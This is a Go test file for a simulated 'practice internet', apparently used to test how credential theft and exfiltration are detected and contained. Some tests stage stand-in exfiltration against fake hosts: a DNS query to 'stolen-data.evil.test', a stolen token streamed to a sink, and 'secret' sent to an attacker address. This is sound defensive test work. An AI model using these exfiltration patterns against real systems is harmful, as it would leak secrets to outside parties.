package practice_test

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"

	"tagout/internal/audit"
	"tagout/internal/instance"
	"tagout/internal/practice"
	"tagout/internal/reason"
	"tagout/internal/testroot"
	"tagout/internal/wire"
)

const within = 5 * time.Second

func claim(t *testing.T, name string) instance.Instance {
	t.Helper()
	testroot.Require(t)
	inst, err := instance.Claim(name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := errors.Join(practice.Cleanup(inst), os.RemoveAll(inst.RunDir()), inst.Release()); err != nil {
			t.Error(err)
		}
	})
	return inst
}

func start(t *testing.T, name, creddSocket string) *practice.Internet {
	t.Helper()
	inst := claim(t, name)
	n, err := practice.Start(deadline(t), practice.Options{Instance: inst, CreddSocket: creddSocket})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := n.Close(); err != nil {
			t.Error(err)
		}
		if left := practice.Leftovers(inst); len(left) > 0 {
			t.Errorf("left after Close: %v", left)
		}
	})
	return n
}

func deadline(t *testing.T) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), within)
	t.Cleanup(cancel)
	return ctx
}

// httpsClient reaches host at a from the host's side, trusting the practice CA.
func httpsClient(t *testing.T, n *practice.Internet, host string, a netip.Addr) *http.Client {
	t.Helper()
	tr := &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, network, netip.AddrPortFrom(a, 443).String())
		},
		TLSClientConfig: &tls.Config{RootCAs: n.Roots(), ServerName: host, MinVersion: tls.VersionTLS12},
	}
	t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: within}
}

func get(t *testing.T, c *http.Client, url string, header ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(deadline(t), http.MethodGet, url, http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func TestDNSAnswersAndCounts(t *testing.T) {
	n := start(t, "tprdns", "")
	server := netip.AddrPortFrom(n.DNSAddr(), 53).String()
	for _, proto := range []string{"udp", "tcp"} {
		c := dns.Client{Net: proto, Timeout: within}
		m := new(dns.Msg).SetQuestion("API.vendor.test.", dns.TypeA)
		r, _, err := c.Exchange(m, server)
		if err != nil {
			t.Fatalf("%s: %v", proto, err)
		}
		if len(r.Answer) != 1 || r.Answer[0].(*dns.A).A.String() != n.APIAddr().String() {
			t.Errorf("%s: answer %v, want %s", proto, r.Answer, n.APIAddr())
		}
	}
	if got := n.DNS.Count(practice.NameAPI); got != 2 {
		t.Errorf("counted %d queries for the API, want 2", got)
	}
	if got := n.DNS.Count(practice.NameEvil); got != 0 {
		t.Errorf("counted %d queries for evil.test before any was sent", got)
	}
	c := dns.Client{Timeout: within}
	if _, _, err := c.Exchange(new(dns.Msg).SetQuestion("stolen-data.evil.test.", dns.TypeA), server); err != nil {
		t.Fatal(err)
	}
	if got := n.DNS.Count(practice.NameEvil); got != 1 {
		t.Errorf("counted %d queries below evil.test, want 1", got)
	}
	r, _, err := c.Exchange(new(dns.Msg).SetQuestion("nobody.test.", dns.TypeA), server)
	if err != nil || r.Rcode != dns.RcodeNameError {
		t.Errorf("unknown name: rcode %v, err %v, want NXDOMAIN", r, err)
	}
}

func TestAPITellsWhichCredentialArrived(t *testing.T) {
	n := start(t, "tprapi", "")
	c := httpsClient(t, n, practice.NameAPI, n.APIAddr())
	if code, body := get(t, c, "https://api.vendor.test/v1/hello"); code != 200 || !strings.Contains(body, "hello") {
		t.Errorf("hello: %d %q", code, body)
	}
	for _, tc := range []struct {
		credential string
		code       int
	}{{n.Secret(), 200}, {"tgo_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 401}} {
		code, body := get(t, c, "https://api.vendor.test/v1/whoami",
			"Authorization", "Bearer "+tc.credential, practice.HeaderPresenter, "me")
		var id practice.Identity
		if err := json.Unmarshal([]byte(body), &id); err != nil {
			t.Fatal(err)
		}
		if code != tc.code || id.SHA256 != practice.Hash(tc.credential) || strings.Contains(body, tc.credential) {
			t.Errorf("whoami: %d %s, want %d and the hash alone", code, body, tc.code)
		}
	}
	tally := n.API.Uses.Tally("me")
	if tally.Accepted != 1 || tally.Refused != 1 || tally.LastRefused < tally.LastAccepted || tally.LastAccepted == 0 {
		t.Errorf("tally %+v", tally)
	}
	if got := n.API.TokensSeen(); got != 1 {
		t.Errorf("saw %d unswapped tokens, want 1", got)
	}
}

func TestFilesServer(t *testing.T) {
	n := start(t, "tprfile", "")
	c := &http.Client{Timeout: within, Transport: &http.Transport{}}
	t.Cleanup(c.CloseIdleConnections)
	base := "http://" + n.FilesAddr().String()
	if _, body := get(t, c, base+"/bytes/100000"); len(body) != 100000 {
		t.Errorf("got %d bytes, want 100000", len(body))
	}
	resp, err := c.Post(base+"/upload", "", strings.NewReader("12345")) // the client has a timeout
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if n.Files.Uploaded() != 5 || n.Files.Requests()[n.FilesAddr().String()] != 2 {
		t.Errorf("uploaded %d, requests %v", n.Files.Uploaded(), n.Files.Requests())
	}
}

func TestSinkReadsTicksAndBulk(t *testing.T) {
	n := start(t, "tprsink", "")
	at := netip.AddrPortFrom(n.TicksAddr(), practice.PortTicks).String()
	before := practice.Now()
	ticks, err := net.Dial("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	defer ticks.Close()
	fmt.Fprint(ticks, "ticks a tgo_stolen\n1\n2 7\n5 9\nrubbish\n")
	bulk, err := net.Dial("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	defer bulk.Close()
	fmt.Fprint(bulk, "bulk a\n", strings.Repeat("x", 1000))
	err = practice.Wait(deadline(t), "both streams are read", func() bool {
		var bytes int64
		for _, st := range n.Sink.Streams("a") {
			bytes += st.Bytes
		}
		return bytes == 37+1007
	})
	if err != nil {
		t.Fatalf("%v: %+v", err, n.Sink.Streams("a"))
	}
	err = practice.Wait(deadline(t), "all lines are parsed", func() bool {
		for _, st := range n.Sink.Streams("a") {
			if st.Kind == "ticks" {
				return st.Ticks == 3 && st.LastTick == 5 && st.Missing == 2 && st.Refusals == 9 && st.Malformed == 1
			}
		}
		return false
	})
	if err != nil {
		t.Fatalf("%v: %+v", err, n.Sink.Streams("a"))
	}
	if n.Sink.Token("a") != "tgo_stolen" {
		t.Errorf("token %q", n.Sink.Token("a"))
	}
	if last := n.Sink.LastByte("a"); last < before || last > practice.Now() {
		t.Errorf("last byte at %v, not between %v and now", last, before)
	}
	if n.Sink.LastByte("b") != 0 {
		t.Error("bytes for a tag that never came")
	}
}

func TestWebhookKeepsAlerts(t *testing.T) {
	n := start(t, "tprhook", "")
	c := &http.Client{Timeout: within, Transport: &http.Transport{}}
	t.Cleanup(c.CloseIdleConnections)
	body := `{"event":"connect.denied","kid":"k1","reason":"quic"}` + "\n" + `{"event":"dns.lookup","kid":"k2"}`
	resp, err := c.Post(n.WebhookURL(), "application/x-ndjson", strings.NewReader(body)) // has a timeout
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	got, err := n.Webhook.Wait(deadline(t), "the QUIC alert is there", func(r audit.Record) bool {
		return r.Kid == "k1" && r.Reason == reason.QUIC
	})
	if err != nil || got.At == 0 {
		t.Fatalf("%+v, %v", got, err)
	}
	if _, total := n.Webhook.Alerts(); total != 2 {
		t.Errorf("%d alerts, want 2", total)
	}
	soon, cancel := context.WithTimeout(t.Context(), 20*time.Millisecond)
	defer cancel()
	if _, err := n.Webhook.Wait(soon, "never", func(audit.Record) bool { return false }); err == nil {
		t.Error("waiting for an alert that never comes succeeded")
	}
}

func TestAttackerHearsAndSaysNothing(t *testing.T) {
	n := start(t, "tprevil", "")
	addrs := []netip.Addr{n.EvilAddr()}
	if _, err := os.Stat("/proc/sys/net/ipv6"); err == nil {
		addrs = append(addrs, n.EvilAddr6())
	}
	var contacts int
	var conns []net.Conn
	for _, a := range addrs {
		for proto, ports := range map[string][]uint16{"tcp": practice.AttackerTCP(), "udp": practice.AttackerUDP()} {
			for _, port := range ports {
				d := net.Dialer{Timeout: within}
				c, err := d.DialContext(deadline(t), proto, netip.AddrPortFrom(a, port).String())
				if err != nil {
					t.Fatal(err)
				}
				defer c.Close()
				fmt.Fprint(c, "secret")
				conns = append(conns, c)
				contacts++
			}
		}
	}
	err := practice.Wait(deadline(t), "the attacker has it all", func() bool {
		got, bytes := n.Attacker.Total()
		return got == contacts && bytes == int64(6*contacts)
	})
	if err != nil {
		t.Fatalf("%v: %+v", err, n.Attacker.Contacts())
	}
	for _, c := range conns {
		c.SetReadDeadline(time.Now().Add(5 * time.Millisecond)) // a live socket
		if size, err := c.Read(make([]byte, 1)); size != 0 || !errors.Is(err, os.ErrDeadlineExceeded) {
			t.Errorf("%s answered: %d bytes, %v", c.RemoteAddr(), size, err)
		}
	}
}

func TestOwnServiceBelievesOnlyCredd(t *testing.T) {
	var active atomic.Bool
	active.Store(true)
	socket := t.TempDir() + "/credd.sock"
	l, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /introspect", func(w http.ResponseWriter, r *http.Request) {
		ok := active.Load() && r.FormValue("token") == "tgo_good"
		json.NewEncoder(w).Encode(wire.Introspection{Active: ok}) // test
	})
	credd := &http.Server{Handler: mux, ReadHeaderTimeout: within}
	go credd.Serve(l) // ends with Close
	t.Cleanup(func() { credd.Close() })

	n := start(t, "tprown", socket)
	ctx, stop := context.WithCancel(t.Context())
	replayed := make(chan error, 1)
	go func() { replayed <- n.Replay(ctx, "tgo_good", "accomplice", 200) }()
	count := func(want func(practice.Tally) bool, what string) {
		t.Helper()
		err := practice.Wait(deadline(t), what, func() bool { return want(n.Own.Uses.Tally("accomplice")) })
		if err != nil {
			t.Fatalf("%v: %+v", err, n.Own.Uses.Tally("accomplice"))
		}
	}
	count(func(u practice.Tally) bool { return u.Accepted >= 10 }, "the token is accepted")

	active.Store(false)
	revoked := practice.Now()
	count(func(u practice.Tally) bool { return u.Refused >= 10 }, "the token is refused")
	if last := n.Own.Uses.Tally("accomplice").LastAccepted; last > revoked+500*time.Millisecond {
		t.Errorf("accepted %v after the revocation", last-revoked)
	}

	active.Store(true) // and with nobody to ask, even a good token is refused
	credd.Close()
	before := n.Own.Uses.Tally("accomplice").Refused
	count(func(u practice.Tally) bool { return u.Refused >= before+5 }, "the token is refused without credd")
	if failed, err := n.Own.Errors(); failed == 0 || err == nil {
		t.Error("no error noted while credd is dead")
	}
	stop()
	if err := <-replayed; err != nil {
		t.Error(err)
	}
}

func TestThreadsComeHome(t *testing.T) {
	n := start(t, "tprhome", "")
	inside := func() (names []string) {
		ifs, err := net.Interfaces()
		if err != nil {
			t.Fatal(err)
		}
		for _, i := range ifs {
			names = append(names, i.Name)
		}
		return names
	}
	host := fmt.Sprint(inside())
	var there string
	for range 50 {
		if err := n.Do(func() error { there = fmt.Sprint(inside()); return nil }); err != nil {
			t.Fatal(err)
		}
		if got := fmt.Sprint(inside()); got != host {
			t.Fatalf("the host now has %s, had %s", got, host)
		}
	}
	if there != "[lo eth0]" && there != "[eth0 lo]" {
		t.Errorf("inside the namespace there is %s", there)
	}
}

// TestCleanupAfterKill starts an internet in a child process, kills that with SIGKILL and finds everything.
func TestCleanupAfterKill(t *testing.T) {
	inst := claim(t, "tprkill")
	child := exec.CommandContext(deadline(t), os.Args[0], "-test.run=^TestHelperStart$")
	child.Env = append(os.Environ(), "PRACTICE_HELPER="+inst.Name())
	out, err := child.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := child.Start(); err != nil {
		t.Fatal(err)
	}
	if _, err := out.Read(make([]byte, 1)); err != nil {
		t.Fatalf("the child did not start: %v", err)
	}
	if err := child.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	child.Wait() // killed
	if left := practice.Leftovers(inst); len(left) != 2 {
		t.Fatalf("leftovers after kill -9: %v, want the link and the directory", left)
	}
	if err := practice.Cleanup(inst); err != nil {
		t.Fatal(err)
	}
	if left := practice.Leftovers(inst); len(left) != 0 {
		t.Errorf("left after Cleanup: %v", left)
	}
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil || strings.Contains(string(mounts), inst.RunDir()) {
		t.Errorf("still mounted below %s (%v)", inst.RunDir(), err)
	}
	if err := practice.Cleanup(inst); err != nil {
		t.Errorf("cleaning up nothing: %v", err)
	}
}

// TestHelperStart is the child of TestCleanupAfterKill and no test of its own.
func TestHelperStart(t *testing.T) {
	name := os.Getenv("PRACTICE_HELPER")
	if name == "" {
		return
	}
	inst, err := instance.Claim(name)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := practice.Start(t.Context(), practice.Options{Instance: inst}); err != nil {
		t.Fatal(err)
	}
	os.Stdout.WriteString(".") // the parent waits for it
	<-t.Context().Done()
	for { // not select{}, which the runtime may call a deadlock
		time.Sleep(time.Hour)
	}
}

func TestStartTakesOverFromTheDead(t *testing.T) {
	inst := claim(t, "tpragain")
	first, err := practice.Start(deadline(t), practice.Options{Instance: inst})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { first.Close() }) // its links are gone already
	second, err := practice.Start(deadline(t), practice.Options{Instance: inst})
	if err != nil {
		t.Fatal(err)
	}
	c := httpsClient(t, second, practice.NameAPI, second.APIAddr())
	if code, _ := get(t, c, "https://api.vendor.test/v1/hello"); code != 200 {
		t.Errorf("hello: %d", code)
	}
	if err := second.Close(); err != nil {
		t.Error(err)
	}
}
